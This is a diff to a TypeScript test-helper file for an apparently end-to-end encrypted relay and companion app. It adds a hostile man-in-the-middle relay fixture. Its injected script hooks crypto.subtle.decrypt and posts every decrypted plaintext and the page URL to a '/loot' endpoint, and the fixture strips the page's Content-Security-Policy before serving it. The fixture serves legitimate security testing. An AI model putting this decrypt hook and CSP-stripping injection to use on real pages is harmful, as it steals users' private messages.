@@ -4,7 +4,8 @@
  * started it.
  */
 import { spawn, type ChildProcess } from 'node:child_process';
-import { mkdtempSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { createServer as createHttpServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import { createServer, type AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -14,6 +15,7 @@ import { WebSocket, WebSocketServer } from 'ws';
 const ROOT = fileURLToPath(new URL('../../', import.meta.url));
 const RELAY_MAIN = join(ROOT, 'src-relay/main.ts');
 const COMPANION_CLI = join(ROOT, 'src-companion/cli.ts');
+const CONSOLE_MAIN = join(ROOT, 'src-main/console/main.ts');
 
 /** A child process whose output lines a test can wait for. */
 export class Proc {
@@ -104,6 +106,7 @@ export async function freePort(): Promise<number> {
 
 export interface RelayProcess {
   proc: Proc;
+  pid: number;
   port: number;
   url: string;
   httpOrigin: string;
@@ -115,9 +118,14 @@ export async function startRelayProcess(options: { port?: number; redis?: string
   const port = options.port ?? (await freePort());
   const args = ['--port', String(port), ...(options.redis ? ['--redis', options.redis] : []), ...(options.args ?? [])];
   const proc = tsx(RELAY_MAIN, args);
-  await proc.waitFor(/^relay ready/);
+  const exited = proc.exited.then((code) => {
+    throw new Error(`the relay exited (${code}) before it was ready:\n${proc.lines.join('\n')}`);
+  });
+  await Promise.race([proc.waitFor(/^relay ready/), exited]);
+  exited.catch(() => undefined);
   return {
     proc,
+    pid: proc.child.pid!,
     port,
     url: `ws://127.0.0.1:${port}/v1`,
     httpOrigin: `http://127.0.0.1:${port}`,
@@ -125,20 +133,56 @@ export async function startRelayProcess(options: { port?: number; redis?: string
   };
 }
 
-export interface RedisProcess {
-  url: string;
+export interface ConsoleProcess {
+  proc: Proc;
+  pid: number;
+  /** The relay embedded in the console's process. */
+  relay: { url: string; port: number };
+  /** A contract call through the console's HTTP API, with the session from its one-time link. */
+  call(method: string, input: unknown): Promise<{ ok: boolean }>;
   stop(): Promise<void>;
 }
 
-export async function startRedis(): Promise<RedisProcess> {
-  const port = await freePort();
+/** `npm run console` as its own process, with its embedded relay (no relay address is set). */
+export async function startConsoleProcess(dataDir: string): Promise<ConsoleProcess> {
+  const proc = tsx(CONSOLE_MAIN, ['--data-dir', dataDir]);
+  const relayLine = await proc.waitFor(/^ {2}relay: (ws:\/\/127\.0\.0\.1:(\d+)\/v1) \(embedded\)$/, 60_000);
+  const login = (await proc.waitFor(/^ {2}open: {2}(\S+)$/))[1]!;
+  const signedIn = await fetch(login, { redirect: 'manual' });
+  const cookie = (signedIn.headers.get('set-cookie') ?? '').split(';')[0]!;
+  const origin = new URL(login).origin;
+  return {
+    proc,
+    pid: proc.child.pid!,
+    relay: { url: relayLine[1]!, port: Number(relayLine[2]) },
+    async call(method, input) {
+      const res = await fetch(`${origin}/api/call`, {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/json', Cookie: cookie },
+        body: JSON.stringify({ method, input }),
+      });
+      return (await res.json()) as { ok: boolean };
+    },
+    stop: () => proc.stop(),
+  };
+}
+
+export interface RedisProcess {
+  url: string;
+  port: number;
+  stop(): Promise<void>;
+}
+
+/** A redis-server on loopback; `port` to start one again where a stopped one was (an outage that ends). */
+export async function startRedis(port?: number): Promise<RedisProcess> {
+  const p = port ?? (await freePort());
   const proc = new Proc(
-    spawn('/usr/bin/redis-server', ['--port', String(port), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no'], {
+    spawn('/usr/bin/redis-server', ['--port', String(p), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no'], {
       stdio: ['ignore', 'pipe', 'pipe'],
     }),
   );
   await proc.waitFor(/Ready to accept connections/);
-  return { url: `redis://127.0.0.1:${port}`, stop: () => proc.stop() };
+  return { url: `redis://127.0.0.1:${p}`, port: p, stop: () => proc.stop() };
 }
 
 /** A CLI companion with a state folder of its own. */
@@ -175,50 +219,108 @@ export class CliCompanion {
 
 type Frame = Record<string, unknown> & { t: string };
 
+/** What the hostile relay adds to the companion's page when it serves it: read the secret, and every plaintext. */
+const INJECTED_SCRIPT = `
+const loot = (what, value) => fetch('/loot', { method: 'POST', body: JSON.stringify({ what, value }) });
+loot('url', location.href);
+const decrypt = crypto.subtle.decrypt.bind(crypto.subtle);
+crypto.subtle.decrypt = async (...args) => {
+  const plain = await decrypt(...args);
+  loot('plaintext', new TextDecoder().decode(plain));
+  return plain;
+};
+`;
+
 /**
  * A hostile relay: a man in the middle between endpoints and a real relay. It sees every frame
  * and may drop, change, duplicate or inject frames in either direction; what it cannot do is
- * the point of the tests.
+ * the point of the tests. With `companionDir` it also serves the web companion at /companion/,
+ * the way a relay could if a user let it, with a script of its own added and the page's own CSP
+ * taken out; whatever that script reads ends up in `loot`.
  */
 export class HostileRelay {
-  private server!: WebSocketServer;
+  private server!: Server;
+  private wss!: WebSocketServer;
   url = '';
+  httpOrigin = '';
   /** Every frame the real relay delivered (`msg`), in order, with the route it went to. */
   readonly recorded: { route: string; frame: Frame }[] = [];
+  /** Every HTTP request made to it (path), and what its injected script sent home. */
+  readonly pageRequests: string[] = [];
+  readonly loot: { what: string; value: string }[] = [];
   /** Rewrite a `msg` frame on its way to an endpoint; return null to drop it. */
   tamper: (frame: Frame) => Frame | null = (f) => f;
   private readonly clients = new Map<string, WebSocket>();
 
-  constructor(private readonly upstream: string) {}
+  constructor(
+    private readonly upstream: string,
+    private readonly companionDir?: string,
+  ) {}
 
   async start(): Promise<void> {
-    this.server = new WebSocketServer({ host: '127.0.0.1', port: 0, path: '/v1' });
-    await new Promise<void>((r) => this.server.once('listening', () => r()));
-    this.url = `ws://127.0.0.1:${(this.server.address() as AddressInfo).port}/v1`;
-    this.server.on('connection', (client) => {
-      const up = new WebSocket(this.upstream);
-      const early: string[] = [];
-      let route = '';
-      up.on('open', () => early.splice(0).forEach((f) => up.send(f)));
-      client.on('message', (data) => (up.readyState === up.OPEN ? up.send(data.toString()) : early.push(data.toString())));
-      up.on('message', (data) => {
-        const frame = JSON.parse(data.toString()) as Frame;
-        if (frame.t === 'ready') {
-          route = frame.route as string;
-          this.clients.set(route, client);
-        }
-        if (frame.t === 'msg') {
-          this.recorded.push({ route, frame });
-          const changed = this.tamper(frame);
-          if (changed) client.send(JSON.stringify(changed));
-          return;
-        }
-        client.send(data.toString());
+    this.server = createHttpServer((req, res) => this.page(req, res));
+    this.wss = new WebSocketServer({ server: this.server, path: '/v1' });
+    await new Promise<void>((r) => this.server.listen(0, '127.0.0.1', () => r()));
+    const port = (this.server.address() as AddressInfo).port;
+    this.url = `ws://127.0.0.1:${port}/v1`;
+    this.httpOrigin = `http://127.0.0.1:${port}`;
+    this.wss.on('connection', (client) => this.bridge(client));
+  }
+
+  private page(req: IncomingMessage, res: ServerResponse): void {
+    const method = req.method ?? 'GET';
+    const path = new URL(req.url ?? '/', 'http://relay').pathname;
+    this.pageRequests.push(path);
+    if (method === 'POST' && path === '/loot') {
+      let body = '';
+      req.on('data', (d: Buffer) => (body += d.toString('utf8')));
+      req.on('end', () => {
+        this.loot.push(JSON.parse(body) as { what: string; value: string });
+        res.end();
       });
-      client.on('close', () => up.close());
-      up.on('close', () => client.close());
-      up.on('error', () => client.close());
+      return;
+    }
+    const dir = this.companionDir;
+    const rel = path.replace(/^\/companion\//, '') || 'index.html';
+    if (!dir || !path.startsWith('/companion/') || rel.includes('..')) return void res.writeHead(404).end();
+    if (rel === 'evil.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(INJECTED_SCRIPT);
+    const file = join(dir, rel);
+    if (!existsSync(file)) return void res.writeHead(404).end();
+    let data = readFileSync(file);
+    if (rel === 'index.html') {
+      const html = data
+        .toString('utf8')
+        .replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/s, '')
+        .replace('<head>', '<head><script src="./evil.js"></script>');
+      data = Buffer.from(html);
+    }
+    const type = rel.endsWith('.html') ? 'text/html' : rel.endsWith('.js') ? 'text/javascript' : rel.endsWith('.css') ? 'text/css' : 'application/octet-stream';
+    res.writeHead(200, { 'Content-Type': type }).end(data);
+  }
+
+  private bridge(client: WebSocket): void {
+    const up = new WebSocket(this.upstream);
+    const early: string[] = [];
+    let route = '';
+    up.on('open', () => early.splice(0).forEach((f) => up.send(f)));
+    client.on('message', (data) => (up.readyState === up.OPEN ? up.send(data.toString()) : early.push(data.toString())));
+    up.on('message', (data) => {
+      const frame = JSON.parse(data.toString()) as Frame;
+      if (frame.t === 'ready') {
+        route = frame.route as string;
+        this.clients.set(route, client);
+      }
+      if (frame.t === 'msg') {
+        this.recorded.push({ route, frame });
+        const changed = this.tamper(frame);
+        if (changed) client.send(JSON.stringify(changed));
+        return;
+      }
+      client.send(data.toString());
     });
+    client.on('close', () => up.close());
+    up.on('close', () => client.close());
+    up.on('error', () => client.close());
   }
 
   /** Deliver a frame the attacker made up (or replays) to whoever holds `route` through us. */
@@ -227,7 +329,9 @@ export class HostileRelay {
   }
 
   async stop(): Promise<void> {
-    for (const c of this.server.clients) c.terminate();
+    for (const c of this.wss.clients) c.terminate();
+    await new Promise<void>((r) => this.wss.close(() => r()));
+    this.server.closeAllConnections();
     await new Promise<void>((r) => this.server.close(() => r()));
   }
 }
